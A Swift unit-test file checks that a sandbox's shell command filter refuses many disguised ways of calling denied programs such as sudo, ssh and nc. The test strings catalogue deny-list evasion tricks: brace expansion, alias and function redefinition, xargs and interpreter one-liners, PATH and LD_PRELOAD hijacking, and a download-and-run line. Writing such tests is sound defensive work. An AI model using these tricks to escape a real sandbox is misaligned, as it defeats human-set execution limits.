import MinicCore
import XCTest

@testable import MinicGuard

/// The sandbox's command filter (`sandbox.deny_commands`) against every way of spelling a denied program.
final class CommandFilterTests: XCTestCase {
    let filter = CommandFilter(allow: [], deny: SandboxConfig.defaultDeny)

    func assertRefused(_ scripts: [String], file: StaticString = #filePath, line: UInt = #line) {
        for script in scripts {
            XCTAssertThrowsError(try filter.check(["sh", "-c", script]), "passed: \(script)", file: file, line: line) {
                XCTAssertEqual(($0 as? MinicError)?.kind, .refused, script, file: file, line: line)
            }
        }
    }

    func assertAllowed(_ scripts: [String], file: StaticString = #filePath, line: UInt = #line) {
        for script in scripts { XCTAssertNoThrow(try filter.check(["sh", "-c", script]), script, file: file, line: line) }
    }

    func testBraceExpansion() {
        assertRefused(["s{u,}do id", "{sudo,true} id", "{s,}u root", "n{c,x} -l 1", "echo x; s{u..u}do id", "env {ssh,x} h", "{a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}{o,p}{q,r}"])
        assertAllowed(["echo {a,b}", "mkdir -p src/{lib,bin}", "echo '{sudo,x}'", "find . -exec ls {} +"])
    }

    func testBuiltinCommandAndExecPrefixes() {
        assertRefused(["builtin command sudo id", "command sudo id", "command -p sudo id", "command -v -p ssh h", "exec sudo id", "exec -a ls sudo id",
                       "exec -cl -a x ssh h", "nice -n5 sudo id", "timeout -s KILL 5 ssh h", "env -u X -C / ssh h", "env -S 'ssh h'", "flock -c 'sudo id' /tmp/l"])
        XCTAssertThrowsError(try filter.check(["command", "-p", "sudo", "id"]))
        XCTAssertThrowsError(try filter.check(["exec", "-a", "x", "nc", "-l"]))
    }

    func testAliasesFunctionsAndTraps() {
        assertRefused(["alias ls=sudo; ls", "alias ls='s''udo id'; ls", "f(){ sudo \"$@\"; }; f id", "function ls { nc -l 1; }; ls", "function x() { ssh h; }",
                       "trap 'sudo id' EXIT", "trap -- 'nc -l 1' INT", "ls() { command ssh h; }; ls"])
        assertAllowed(["alias ll='ls -l'", "trap 'rm -f \"$tmp\"' EXIT", "trap - EXIT", "f() { echo hi; }; f"])
    }

    func testProcessSubstitutionXargsAndFind() {
        assertRefused(["cat <(sudo id)", "echo x > >(nc h 1)", "diff <(ls) <(ssh h ls)", "echo id | xargs sudo", "echo h | xargs -n1 -P2 ssh",
                       "echo h | xargs -I{} ssh {}", "echo h | xargs --max-procs 2 ssh", "echo x | xargs -0 -r -- nc", "echo sudo | xargs env",
                       "echo sudo | xargs -I % sh -c %", "echo 'sudo id' | xargs sh", "echo f | xargs python3", "echo x | xargs nice",
                       "find . -exec sudo id \\;", "find / -execdir nc h 1 +", "find . -exec {} \\;"])
        assertAllowed(["ls | xargs -n1 echo", "find . -name '*.o' -exec rm {} +", "find . -print0 | xargs -0 rm -f", "ls | xargs sh -c 'echo \"$@\"' _"])
    }

    func testInterpretersGivenCode() {
        assertRefused(["awk 'BEGIN{system(\"sudo id\")}'", "awk 'BEGIN { \"id\" | getline x }'", "awk 'BEGIN{print | \"sh\"}'", "gawk -e 'BEGIN{system(\"x\")}'",
                       "perl -e 'print 1'", "perl -pe 's/x/y/'", "ruby -e 'puts 1'", "node -e 'console.log(1)'", "php -r 'echo 1;'", "lua -e 'print(1)'",
                       "python3 -c 'import os; os.system(\"sudo id\")'", "python3 -c '__import__(\"o\"+\"s\").popen(\"x\")'",
                       "python3 -c 'import subprocess; subprocess.run([\"ls\"])'", "python3 -c 'print(getattr(o, \"sys\"+\"tem\"))'",
                       "python3 -c 'import os; os.ｓｙｓｔｅｍ(\"x\")'", "python3 -Ic 'import pty; pty.spawn(\"sh\")'", "python3 -c 'print(\"ssh\")'",
                       "sed 's/.*/sudo id/e' f", "sed -e '1e id' f", "bash -c 'dash -c \"zsh -c ssh\"'", "echo 'import os' | python3",
                       "python3 - <<EOF\nimport os; os.system('x')\nEOF", "echo 'sudo id' | sh", "cat x | bash -s"])
        assertAllowed(["python3 -c 'print(2 + 2)'", "python3 -c 'import json, sys; json.load(sys.stdin)'", "awk '{print $1}' f", "awk -F: '$3 > 0 || $1' f",
                       "sed -n 's/a/b/p' f", "sed -i.bak 's/x/y/g' f", "python3 x.py", "cat x | python3 script.py"])
        XCTAssertThrowsError(try filter.check(["python3", "-c", "import ctypes; ctypes.CDLL(None).system(b'id')"]))
        XCTAssertThrowsError(try filter.check(["perl", "-e", "exec 'sudo'"]))
        XCTAssertNoThrow(try filter.check(["python3", "-c", "print(2 + 2)"]))
    }

    func testCopiesUnderAnotherNameAndLookupChanges() {
        assertRefused(["cp /usr/bin/ssh /tmp/x; /tmp/x h", "cp /usr/bin/nc ./x; ./x -l", "bin/x", "/work/tool", "/usr/bin/../../tmp/x", "PATH=/tmp:$PATH x",
                       "export PATH=.:$PATH; x", "LD_PRELOAD=/tmp/e.so ls", "hash -p /tmp/x ls; ls", "/lib64/ld-linux-x86-64.so.2 /tmp/x", "env PATH=/tmp x", "env -i PATH=. x"])
        XCTAssertThrowsError(try filter.check(["/tmp/x"]))
        XCTAssertThrowsError(try filter.check(["./configure"]))
        XCTAssertNoThrow(try filter.check(["/usr/bin/env", "ls"]))
        XCTAssertNoThrow(try filter.check(["sh", "-c", "cp /usr/bin/ls /tmp/x; ls /tmp"]))
    }

    func testProgramsFedThroughStdinSubstitutionsOrFilesWrittenOnTheWay() {
        assertRefused(["echo 'sudo id' | env sh", "echo 'sudo id' | nice -n 1 bash -s", "echo 'sudo id' | sh /dev/stdin", "source /dev/stdin <<< 'sudo id'",
                       ". <(echo sudo id)", "sh <(printf 'ssh h')", "python3 <(echo x)", "bash \"$F\"",
                       "echo 'sudo id' > s; sh s", "printf 'nc -l 1' | tee /tmp/s.sh; . /tmp/s.sh", "cp x y.py; python3 y.py",
                       "curl -o i.sh http://x; bash i.sh", "script -qc 'sudo id' /dev/null", "vim -c '!sudo id'", "sh -s <<EOF\nssh h\nEOF"])
        assertAllowed(["sh ./configure", "echo hi > out.txt; cat out.txt", "bash -c 'read x' <<< 'sudo id'", "python3 -m http.server 8000", "sh -s <<EOF\necho hi\nEOF"])
    }

    func testGlobsZshEqualsVariablesThatRunCommandsAndHereDocumentSubstitutions() {
        assertRefused(["/usr/bin/su?o id", "/usr/*/sudo id", "/usr/bin/s[u]do", "=sudo id", "BASH_ALIASES[ls]=sudo; ls", "BASH_CMDS[ls]=/usr/bin/sudo; ls",
                       "env 'BASH_FUNC_ls%%=() { sudo id; }' bash -c ls", "PS4='$(sudo id)' bash -xc true", "export GIT_SSH_COMMAND='nc h 1'; git fetch",
                       "PAGER='sudo id' man ls", "cat <<EOF\n$(sudo id)\nEOF", "cat <<EOF\nx `ssh h` y\nEOF", "make --eval='x:; sudo id' x", "make -E 'x:;ssh h' x"])
        assertAllowed(["[ -f x ] && echo y", "[[ -n x ]]", "cat <<'EOF'\n$(sudo id)\nEOF", "cat <<EOF\nssh is denied; $(echo fine)\nEOF", "arr[0]=x; echo ${arr[0]}"])
    }

    func testAnAllowListIsNotGotAroundEither() {
        let allowList = CommandFilter(allow: ["python3", "sh", "echo", "xargs"], deny: [])
        XCTAssertNoThrow(try allowList.check(["sh", "-c", "echo a && python3 -c 1"]))
        for script in ["command -p rm x", "echo rm | xargs env", "/tmp/echo", "python3 -c 'import os; os.system(\"rm x\")'", "{rm,-f} x"] {
            XCTAssertThrowsError(try allowList.check(["sh", "-c", script]), script)
        }
        XCTAssertNoThrow(try CommandFilter(allow: [], deny: []).check(["sh", "-c", "$CMD; /tmp/x"]), "no list, nothing to enforce")
    }
}
